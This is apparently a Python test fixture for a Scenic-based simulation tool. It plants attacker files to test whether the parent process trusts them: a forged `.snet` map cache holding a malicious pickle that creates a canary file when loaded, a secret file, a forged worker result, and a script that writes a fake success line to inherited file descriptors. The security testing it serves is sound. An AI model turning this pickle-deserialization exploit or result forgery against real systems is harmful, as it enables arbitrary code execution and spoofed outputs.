"""Files an attacker plants for the parent: a Scenic `.snet` whose unpickling creates a
canary file, a secret, a forged worker result, outputs to look for afterwards."""

from __future__ import annotations

import gzip
import hashlib
import json
import os
import pickle
import struct
from pathlib import Path
from typing import Any

from arise.maps.registry import builtin_data_dir

SECRET_TEXT = "ARISE-PARENT-TRUST-SECRET"
STRAIGHT = builtin_data_dir() / "arise_straight.xodr"


class _OpensCanary:
    """Unpickling this calls open(canary, "w"): the file appears, proof of code run."""

    def __init__(self, canary: Path):
        self.canary = canary

    def __reduce__(self) -> tuple[Any, ...]:
        return (open, (str(self.canary), "w"))


def plant_snet(xodr: Path, canary: Path) -> Path:
    """A `.snet` beside `xodr` that Scenic's `Network.fromFile(xodr)` accepts as the cache
    of exactly that map (right format version and digests), and unpickles."""
    from scenic.core.serialization import deterministicHash
    from scenic.domains.driving.roads import Network

    header = (
        struct.pack("<I", Network._currentFormatVersion())
        + hashlib.blake2b(xodr.read_bytes()).digest()
        + deterministicHash({}, digest_size=8)
    )
    snet = xodr.with_suffix(".snet")
    snet.write_bytes(header + gzip.compress(pickle.dumps(_OpensCanary(canary))))
    return snet


def plant(root: Path) -> tuple[Path, Path, Path]:
    """(a map with a planted .snet, its canary, a mode-0600 secret) under `root`."""
    planted = root / "planted"
    planted.mkdir(parents=True, exist_ok=True)
    xodr = planted / "evil.xodr"
    xodr.write_bytes(STRAIGHT.read_bytes())
    canary = root / "CANARY-unpickled"
    plant_snet(xodr, canary)
    secret = planted / "secret.xodr"
    secret.write_text(SECRET_TEXT + "\n", encoding="utf-8")
    secret.chmod(0o600)
    return xodr, canary, secret


def forged_facts(steps: int = 20) -> dict[str, Any]:
    """Plausible simulation facts: one car driving along +x."""
    return {
        "steps": steps,
        "timestep": 0.1,
        "termination_type": "timeLimit",
        "termination_reason": "forged",
        "agents": [
            {
                "name": "ego",
                "kind": "Car",
                "width": 2.0,
                "length": 4.5,
                "is_ego": True,
                "trajectory": [
                    {"step": i, "x": 10.0 + i, "y": -5.25, "heading": -1.5708, "speed": 10.0}
                    for i in range(steps + 1)
                ],
            }
        ],
    }


def forged_result(snet_map: Path, secret: Path, png: Path, **facts: Any) -> dict[str, Any]:
    """A worker result naming the planted map and the secret wherever a path goes."""
    return {
        "ok": True,
        "script": str(secret),
        "map": {"requested": None, "name": "arise_straight", "path": str(snet_map)},
        "model": "forged.model",
        "png": str(png),
        "png_data": None,
        "warnings": ["HOSTILE-FORGED"],
        "simulation": {**forged_facts(), **facts},
    }


def forging_script(result: dict[str, Any]) -> str:
    """A Scenic script (for a check without the static gate) that writes `result` as its
    result line on every descriptor it inherited, then fails on its own."""
    line = json.dumps({"event": "result", "result": result})
    return (
        "model scenic.simulators.carla.model\n"
        "import os\n"
        f"line = ({line!r} + '\\n').encode()\n"
        "for fd in range(1, 64):\n"
        "    try:\n"
        "        kind = os.fstat(fd).st_mode & 0o170000\n"
        "    except OSError:\n"
        "        continue\n"
        "    if kind in (0o010000, 0o140000, 0o100000):\n"
        "        try:\n"
        "            os.write(fd, line)\n"
        "        except OSError:\n"
        "            pass\n"
        "raise RuntimeError('only the forged result can say ok')\n"
        "ego = new Car\n"
    )


def files_under(root: Path) -> set[Path]:
    """Every file and link below root (to tell what a command wrote)."""
    found = set()
    for parent, folders, files in os.walk(root):
        for name in files + folders:
            found.add(Path(parent) / name)
    return found


def holds_secret(root: Path, exclude: Path) -> list[Path]:
    """Files below root, outside `exclude`, whose content holds the secret."""
    hits = []
    for path in files_under(root):
        if path.is_relative_to(exclude) or path.is_symlink() or not path.is_file():
            continue
        if SECRET_TEXT.encode() in path.read_bytes():
            hits.append(path)
    return hits
